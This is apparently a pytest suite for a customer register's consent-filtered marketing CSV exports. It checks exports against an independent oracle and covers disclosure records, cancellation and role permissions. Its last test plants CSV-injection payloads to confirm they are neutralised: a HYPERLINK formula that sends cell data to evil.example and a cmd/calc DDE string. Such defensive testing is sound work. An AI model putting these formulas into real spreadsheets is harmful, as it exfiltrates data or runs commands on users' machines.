"""Marketing exports: exactly the persons whose state allows it, checked against an
independent computation (``marketing_oracle``) on random small registers and on a
100,000-customer demo register; the export is a recorded disclosure."""

from __future__ import annotations

import csv
import shutil
import sqlite3
import tempfile
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import insert, select, update

from kkdesk.domain.consent import ConsentItem, MarketingChannel, MarketingPurpose
from kkdesk.domain.levels import Level
from kkdesk.domain.search import customer_number
from kkdesk.errors import PermissionDenied
from kkdesk.services import demo, marketing
from kkdesk.services.session import DeskSession, open_session
from kkdesk.store import marketing as store_marketing
from kkdesk.store.models import ConsentEvent, ContactPerson, Customer, Suppression
from tests.unit.services.marketing_oracle import Register

EXPORT_CHANNELS = (MarketingChannel.POST, MarketingChannel.EMAIL, MarketingChannel.SMS)
NOW = datetime(2025, 1, 1, 12, tzinfo=UTC)


def numbers_in(path: Path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return [row["customer_number"] for row in csv.DictReader(f)]


def disclosed_numbers(db: Path, disclosure_id: int) -> set[str]:
    con = sqlite3.connect(db)
    try:
        return {
            n
            for (n,) in con.execute(
                "SELECT c.number FROM disclosure_customer dc JOIN customer c "
                "ON c.id = dc.customer_id WHERE dc.disclosure_id = ?",
                (disclosure_id,),
            )
        }
    finally:
        con.close()


def check_export(
    ds: DeskSession,
    db: Path,
    out_dir: Path,
    purpose: MarketingPurpose,
    ch: MarketingChannel,
    register: Register | None = None,
) -> set[str]:
    expected = (register or Register(db)).expected(purpose, ch)
    assert marketing.preview(ds, purpose, ch) == len(expected)
    out = out_dir / f"{purpose}-{ch}.csv"
    result = marketing.export(ds, purpose, ch, out, recipient="Mainostoimisto Oy")
    got = numbers_in(out)
    assert len(got) == len(set(got)), "a person appears twice"
    assert set(got) == expected
    assert result.count == len(expected)
    assert disclosed_numbers(db, result.disclosure_id) == expected
    return expected


# --- random small registers ------------------------------------------------------------

# Small pools so that records often share a key; consents drawn more often than their
# share of the items so that e-mail and SMS exports are seldom empty.
EMAILS = ("", "a@example.fi", "b@example.fi", "c@example.fi", "d@example.fi", "e@example.fi")
PHONES = ("", "+358401111111", "+358402222222", "+358403333333", "+358404444444")
ITEMS = (*ConsentItem, *(ConsentItem.EMAIL_MARKETING, ConsentItem.SMS_MARKETING) * 4)


@st.composite
def registers(draw: st.DrawFn) -> dict[str, list[dict[str, Any]]]:
    n = draw(st.integers(1, 10))
    customers, contacts, events, supp = [], [], [], []
    contact_id = 0
    for cid in range(1, n + 1):
        company = draw(st.booleans())
        email = draw(st.sampled_from(EMAILS))
        customers.append(
            {
                "id": cid,
                "number": customer_number(cid),
                "type": "company" if company else "person",
                "customer_since": date(2020, 1, 1),
                "surname": "" if company else "Virtanen",
                "first_names": "" if company else "Matti",
                "company_name": "Kone Oy" if company else "",
                "street": draw(st.sampled_from(("", "Kotikatu 1"))),
                "postal_code": "00100",
                "post_office": "HELSINKI",
                "phone_home": draw(st.sampled_from(PHONES)),
                "phone_work": "",
                "phone_mobile": draw(st.sampled_from(PHONES)),
                "email": email.upper() if draw(st.booleans()) else email,
                "email_key": email,
                "created_at": NOW,
                "created_by": "t",
                "updated_at": NOW,
                "updated_by": "t",
                "erased_at": NOW if draw(st.integers(0, 9)) == 0 else None,
                "version": 1,
            }
        )
        persons: list[int | None] = [None]
        if company:
            for _ in range(draw(st.integers(0, 2))):
                contact_id += 1
                e = draw(st.sampled_from(EMAILS))
                contacts.append(
                    {
                        "id": contact_id,
                        "customer_id": cid,
                        "surname": "Kontakti",
                        "first_names": "Kaisa",
                        "phone_mobile": draw(st.sampled_from(PHONES)),
                        "email": e,
                        "email_key": e,
                    }
                )
                persons.append(contact_id)
        for _ in range(draw(st.integers(0, 6))):
            events.append(
                {
                    "customer_id": cid,
                    "contact_person_id": draw(st.sampled_from(persons)),
                    "item": draw(st.sampled_from(ITEMS)).value,
                    "state": draw(st.booleans()),
                    "received_on": date(2024, 1, 1) + timedelta(days=draw(st.integers(0, 3))),
                    "channel": "letter",
                    "document_ref": "K-1",
                    "recorded_by": "t",
                    "recorded_at": NOW + timedelta(minutes=draw(st.integers(0, 3))),
                }
            )
    for _ in range(draw(st.integers(0, 4))):
        kind = draw(st.sampled_from(("email", "phone")))
        value = draw(st.sampled_from(EMAILS[1:] if kind == "email" else PHONES[1:]))
        supp.append(
            {
                "key_kind": kind,
                "key_value": value,
                "item": draw(st.sampled_from(ConsentItem)).value,
                "active": draw(st.booleans()),
                "created_at": NOW,
                "created_by": "t",
            }
        )
    return {"customer": customers, "contact": contacts, "event": events, "supp": supp}


@pytest.fixture(scope="module")
def empty_template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("empty") / "empty.sqlite3"
    open_session(str(path), level=Level.ADMIN).close()
    return path


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(registers(), st.sampled_from(MarketingPurpose))
def test_export_is_exactly_the_allowed_persons(
    empty_template: Path, data: dict[str, list[dict[str, Any]]], purpose: MarketingPurpose
) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        db = Path(tmp) / "r.sqlite3"
        shutil.copyfile(empty_template, db)
        ds = open_session(str(db), level=Level.MARKETING)
        try:
            with ds.db.engine.begin() as conn:
                conn.execute(insert(Customer), data["customer"])
                for table, key in (
                    (ContactPerson, "contact"),
                    (ConsentEvent, "event"),
                    (Suppression, "supp"),
                ):
                    if data[key]:
                        conn.execute(insert(table), data[key])
            register = Register(db)
            for channel in EXPORT_CHANNELS:
                check_export(ds, db, Path(tmp), purpose, channel, register)
        finally:
            ds.close()


# --- the export as a disclosure ---------------------------------------------------------


def test_export_is_recorded_as_a_disclosure(demo_ds: DeskSession, tmp_path: Path) -> None:
    db = Path(str(demo_ds.db.url.database))
    ds = DeskSession(demo_ds.db, Level.MARKETING)
    expected = check_export(
        ds, db, tmp_path, MarketingPurpose.DIRECT_ADVERTISING, MarketingChannel.POST
    )
    assert expected
    con = sqlite3.connect(db)
    row = con.execute(
        "SELECT kind, purpose, channel, recipient, customer_count, recorded_by FROM disclosure"
    ).fetchone()
    con.close()
    assert row[:5] == (
        "marketing_export",
        "direct-advertising",
        "post",
        "Mainostoimisto Oy",
        len(expected),
    )
    header = (tmp_path / "direct-advertising-post.csv").read_text(encoding="utf-8-sig")
    assert header.splitlines()[0] == (
        "customer_number,name,street,postal_code,post_office,country,language"
    )


def test_failed_write_leaves_no_file_and_no_disclosure(
    demo_ds: DeskSession, tmp_path: Path
) -> None:
    out = tmp_path / "out.csv"

    def boom(done: int, total: int) -> None:
        if done:
            raise OSError("disk full")

    with pytest.raises(OSError):
        marketing.export(
            demo_ds, MarketingPurpose.GENEALOGY, MarketingChannel.POST, out, progress=boom
        )
    assert not out.exists()
    assert list(tmp_path.glob(".*")) == []  # nor a half-written temporary file
    con = sqlite3.connect(str(demo_ds.db.url.database))
    assert con.execute("SELECT count(*) FROM disclosure").fetchone() == (0,)
    assert con.execute("SELECT count(*) FROM disclosure_customer").fetchone() == (0,)
    con.close()


def test_a_stopped_export_leaves_no_file_and_no_disclosure(
    demo_ds: DeskSession, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(store_marketing, "BATCH", 2)  # many batches from the demo register
    out = tmp_path / "out.csv"
    seen: list[int] = []
    with pytest.raises(marketing.ExportCancelled):
        marketing.export(
            demo_ds,
            MarketingPurpose.GENEALOGY,
            MarketingChannel.POST,
            out,
            progress=lambda d, t: seen.append(d),
            stop=lambda: len(seen) > 2,  # asked after every batch: stops mid-way
        )
    assert seen == [0, 2, 4]
    assert not out.exists()
    assert list(tmp_path.glob(".*")) == []
    con = sqlite3.connect(str(demo_ds.db.url.database))
    assert con.execute("SELECT count(*) FROM disclosure").fetchone() == (0,)
    assert con.execute("SELECT count(*) FROM disclosure_customer").fetchone() == (0,)
    con.close()


def test_progress_counts_rows_of_the_expected_total(demo_ds: DeskSession, tmp_path: Path) -> None:
    seen: list[tuple[int, int]] = []
    n = marketing.preview(demo_ds, MarketingPurpose.GENEALOGY, MarketingChannel.POST)
    result = marketing.export(
        demo_ds,
        MarketingPurpose.GENEALOGY,
        MarketingChannel.POST,
        tmp_path / "x.csv",
        progress=lambda d, t: seen.append((d, t)),
        expected=n,
    )
    assert result.count == n and seen[0] == (0, n) and seen[-1] == (n, n)


def test_progress_reaches_the_total(demo_ds: DeskSession, tmp_path: Path) -> None:
    seen: list[tuple[int, int]] = []
    result = marketing.export(
        demo_ds,
        MarketingPurpose.MARKET_RESEARCH,
        MarketingChannel.POST,
        tmp_path / "x.csv",
        progress=lambda d, t: seen.append((d, t)),
    )
    # Without a count from the caller, the export counts first: progress is in customers
    # written of that count.
    total = seen[0][1]
    assert result.count > 0 and total >= result.count
    assert seen[0] == (0, total) and seen[-1] == (total, total)
    assert [done for done, _ in seen] == sorted(done for done, _ in seen)


@pytest.mark.parametrize("level", [Level.VIEWER, Level.CLERK, Level.PRIVACY])
def test_only_marketing_and_admin_export(
    demo_ds: DeskSession, level: Level, tmp_path: Path
) -> None:
    ds = DeskSession(demo_ds.db, level)
    with pytest.raises(PermissionDenied):
        marketing.preview(ds, MarketingPurpose.DIRECTORIES, MarketingChannel.POST)
    with pytest.raises(PermissionDenied):
        marketing.export(ds, MarketingPurpose.DIRECTORIES, MarketingChannel.POST, tmp_path / "x")
    assert not (tmp_path / "x").exists()


# --- 100,000 customers --------------------------------------------------------------------

BIG = 100_000


@pytest.fixture(scope="session")
def big_register(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """The demo register at 100,000 customers, plus what a demo lacks: erased objectors
    whose suppression entries outlive them, and duplicates sharing an e-mail or phone."""
    path = tmp_path_factory.mktemp("big") / "big.sqlite3"
    ds = open_session(str(path), level=Level.ADMIN)
    with pytest.MonkeyPatch.context() as mp:
        # Orders, deliveries and returns play no part in marketing and would take half the
        # time of building the register: the demo's customers, contact persons,
        # prohibitions, consents and suppression entries are all still there.
        mp.setattr(demo._Maker, "_orders", lambda *_args, **_kwargs: None)
        demo.generate(ds, BIG, seed=11)
    with ds.db.engine.begin() as conn:
        # Erase every 500th customer the way erasure does: blank personal data, keep
        # the suppression list.
        conn.execute(
            update(Customer)
            .where(Customer.id % 500 == 0)
            .values(erased_at=NOW, email="", email_key="", phone_home="", phone_mobile="")
        )
        # Every 997th customer gets a duplicate record sharing its e-mail and mobile,
        # with no consents at all: the least permissive state must win.
        dup = (
            conn.execute(
                Customer.__table__.select().where(
                    Customer.id % 997 == 0, Customer.erased_at.is_(None)
                )
            )
            .mappings()
            .all()
        )
        top = BIG
        rows = []
        for r in dup:
            top += 1
            row = dict(r)
            row.update(id=top, number=customer_number(top))
            rows.append(row)
        conn.execute(insert(Customer), rows)
    ds.close()
    yield path


@pytest.mark.slow
def test_exports_of_100k_match_the_independent_computation(
    big_register: Path, tmp_path: Path
) -> None:
    """Every purpose on every channel: file, preview and recorded disclosure are exactly
    the independent computation's set. The register is read once for the oracle (the
    exports add disclosures only, which the rules never read)."""
    ds = open_session(str(big_register), level=Level.MARKETING)
    register = Register(big_register)
    sizes: dict[tuple[MarketingPurpose, MarketingChannel], int] = {}
    try:
        for channel in EXPORT_CHANNELS:
            for purpose in MarketingPurpose:
                expected = check_export(ds, big_register, tmp_path, purpose, channel, register)
                sizes[(purpose, channel)] = len(expected)
    finally:
        ds.close()
    # Big enough to mean something, and the rules visibly at work: opt-in channels hold
    # far fewer people than post, and every purpose is narrower than "everyone".
    assert min(sizes.values()) > 1000
    for purpose in MarketingPurpose:
        post = sizes[(purpose, MarketingChannel.POST)]
        assert sizes[(purpose, MarketingChannel.EMAIL)] < post / 2
        assert sizes[(purpose, MarketingChannel.SMS)] < post / 2
        assert post < BIG


@pytest.mark.parametrize("channel", EXPORT_CHANNELS)
def test_the_file_is_the_bare_query_written_as_csv(
    demo_ds: DeskSession, tmp_path: Path, channel: MarketingChannel
) -> None:
    """What the benchmark compares against: ``export_query`` run by plain sqlite3 gives
    the same rows, in the same order, as the file the export wrote."""
    out = tmp_path / "x.csv"
    marketing.export(demo_ds, MarketingPurpose.MARKET_RESEARCH, channel, out)
    con = sqlite3.connect(str(demo_ds.db.url.database))
    try:
        cur = con.execute(marketing.export_query(MarketingPurpose.MARKET_RESEARCH, channel))
        expected = [[d[0] for d in cur.description], *([str(v) for v in r] for r in cur)]
    finally:
        con.close()
    with open(out, encoding="utf-8-sig", newline="") as f:
        assert list(csv.reader(f)) == expected
    assert out.read_bytes().startswith("\ufeff".encode())


def _export_rows(ds: DeskSession, channel: MarketingChannel, out: Path) -> dict[str, list[str]]:
    marketing.export(ds, MarketingPurpose.MARKET_RESEARCH, channel, out)
    with open(out, encoding="utf-8-sig", newline="") as f:
        return {row[0]: row for row in list(csv.reader(f))[1:]}


def test_cells_a_spreadsheet_would_run_are_neutralised(ds: DeskSession, tmp_path: Path) -> None:
    """OWASP's CSV injection: a cell starting with = + - @, tab or CR gets a leading
    apostrophe; an E.164 phone (+ and digits) stays a phone. The values are written as
    rows written outside kkdesk would be: the file must be safe whatever the register holds."""
    from tests.orders_factory import add_customer

    link = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
    values = {
        "first_names": link,
        "street": "+1+cmd|' /C calc'!A0",
        "post_office": "@SUM(1+1)",
        "postal_code": "-2+3",
        "email": "\tx@example.fi",
        "phone_mobile": "+358401234567",
    }
    plain = add_customer(ds, "Plain")
    evil = add_customer(ds, "Evil")
    odd_phone = add_customer(ds, "Phone")
    with ds.db.session() as s:
        s.execute(update(Customer).where(Customer.number == evil).values(**values))
        s.execute(
            update(Customer)
            .where(Customer.number.in_([plain, odd_phone]))
            .values(email="a@example.fi", phone_mobile="+358501112222")
        )
        s.execute(update(Customer).where(Customer.number == odd_phone).values(phone_mobile="+1+A1"))
        ids = s.scalars(select(Customer.id).where(Customer.number.in_([plain, evil, odd_phone])))
        s.execute(
            insert(ConsentEvent),
            [
                {
                    "customer_id": cid,
                    "contact_person_id": None,
                    "item": item.value,
                    "state": True,
                    "received_on": date(2024, 1, 1),
                    "channel": "letter",
                    "recorded_by": "t",
                    "recorded_at": NOW,
                }
                for cid in ids.all()
                for item in (ConsentItem.EMAIL_MARKETING, ConsentItem.SMS_MARKETING)
            ],
        )
    post = _export_rows(ds, MarketingChannel.POST, tmp_path / "post.csv")
    assert post[evil][1:5] == [
        "'" + link + " Evil",
        "'+1+cmd|' /C calc'!A0",
        "'-2+3",
        "'@SUM(1+1)",
    ]
    assert post[plain][1] == "Aino Plain"  # ordinary cells are untouched
    email = _export_rows(ds, MarketingChannel.EMAIL, tmp_path / "email.csv")
    assert email[evil][2] == "'\tx@example.fi"
    sms = _export_rows(ds, MarketingChannel.SMS, tmp_path / "sms.csv")
    assert sms[evil][2] == "+358401234567" and sms[plain][2] == "+358501112222"
    assert sms[odd_phone][2] == "'+1+A1"
    for row in (*post.values(), *email.values(), *sms.values()):
        for cell in row:
            assert not cell.startswith(marketing.FORMULA_STARTS) or cell.startswith("+358")
